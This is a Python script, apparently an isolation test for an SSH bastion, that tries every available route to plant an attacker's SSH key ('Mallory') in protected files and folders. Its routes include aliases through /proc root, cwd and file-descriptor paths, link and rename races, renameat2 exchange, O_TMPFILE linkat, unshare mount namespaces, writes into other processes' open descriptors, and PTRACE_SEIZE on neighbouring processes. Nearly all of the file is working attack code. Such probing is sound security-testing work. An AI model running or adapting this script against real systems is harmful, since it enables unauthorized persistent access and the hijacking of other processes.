"""attack.py FOLDER FILE...: what a command tries that wants to own the next request: to change, by any way that there is, the folder, what
stands in it, and the files. It says nothing of its success there: whoever starts it
looks at the files afterwards. `seized`: another process is in its hands."""
import ctypes
import os
import socket
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
folder, files = sys.argv[1], sys.argv[2:]
KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory mallory\n"
scratch = f"{os.environ['T']}/scratch.{os.getpid()}"
os.makedirs(scratch, exist_ok=True)
evil = f"{scratch}/evil"


def write(path, flags=os.O_WRONLY | os.O_CREAT, dir_fd=None):
    fd = os.open(path, flags, 0o644, dir_fd=dir_fd)
    os.write(fd, KEY)
    os.close(fd)


def attempt(function, *arguments, **named):
    try:
        function(*arguments, **named)
    except (OSError, subprocess.SubprocessError):
        pass


def other_names(path):
    """Ways to the same file."""
    yield path
    yield f"/proc/self/root{path}"
    yield f"/proc/{os.getppid()}/root{path}"
    yield f"/proc/1/root{path}"
    os.chdir(os.path.dirname(path))
    yield f"/proc/self/cwd/{os.path.basename(path)}"
    try:
        yield f"/proc/self/fd/{os.open(path, os.O_RDONLY)}"
        yield f"/proc/self/fd/{os.open(path, os.O_PATH)}"
    except OSError:
        pass


def change_file(path):
    for name in other_names(path):
        for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
            attempt(write, name, flags)
        attempt(os.truncate, name, 0)
    for i, name in enumerate((f"{scratch}/link", f"{path}.link", f"{os.path.dirname(path)}/../link")):
        attempt(os.link, path, name)
        attempt(write, name, os.O_WRONLY)
        attempt(os.rename, path, f"{name}.moved")
    attempt(os.rename, evil, path)
    attempt(libc.renameat2, -100, evil.encode(), -100, path.encode(), 2)  # RENAME_EXCHANGE
    attempt(libc.renameat2, -100, evil.encode(), -100, path.encode(), 0)
    attempt(os.unlink, path)
    attempt(os.symlink, evil, path)
    attempt(write, path)


def change_folder(path):
    fd = os.open(path, os.O_RDONLY)
    for name in ("evil.pub", "HTTP_BASIC_AUTH", "FORCE_COMMAND"):
        attempt(write, f"{path}/{name}")
        attempt(write, name, dir_fd=fd)
        attempt(os.link, evil, f"{path}/{name}")
        attempt(os.symlink, evil, f"{path}/{name}")
        attempt(os.rename, evil, f"{path}/{name}")
        attempt(os.mkfifo, f"{path}/fifo")
        attempt(os.mkdir, f"{path}/{name}")
        attempt(lambda: socket.socket(socket.AF_UNIX).bind(f"{path}/{name}.sock"))
        attempt(put_nameless, path, name)
    for above in (path, os.path.dirname(path)):
        attempt(os.rename, above, above + ".old")
        attempt(os.rename, above, f"{scratch}/{os.path.basename(above)}")
        attempt(libc.renameat2, -100, scratch.encode(), -100, above.encode(), 2)
        attempt(os.rmdir, above)


def put_nameless(path, name):
    fd = os.open(path, os.O_TMPFILE | os.O_WRONLY, 0o644)
    os.write(fd, KEY)
    libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, f"{path}/{name}".encode(), 0x400)


def by_namespaces():
    """As root of a namespace of its own, where it could mount."""
    script = f"mount --bind {scratch} {folder}; mount -o remount,rw {folder}; umount {folder}; cp {evil} {folder}/evil.pub"
    for mount in ("-rm", "-rmp"):
        attempt(subprocess.run, ["unshare", mount, "--fork", "sh", "-c", script], capture_output=True, timeout=20)


def by_others():
    """Through processes of the same account that are there, and descriptors of theirs."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        attempt(write, f"/proc/{pid}/root{folder}/evil.pub")
        attempt(write, f"/proc/{pid}/cwd/evil.pub")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith(("/etc", "/run/bastion")):
                    attempt(write, f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
        except OSError:
            pass
        mine = int(pid) in (os.getpid(), os.getppid())
        if not mine and libc.ptrace(0x4206, int(pid), 0, 0) == 0:  # PTRACE_SEIZE: it would do whatever we like
            print("seized", open(f"/proc/{pid}/cmdline").read())


write(evil)
attempt(by_others)
for file in files:
    write(evil)
    change_file(file)
attempt(change_folder, folder)
by_namespaces()
print("done")
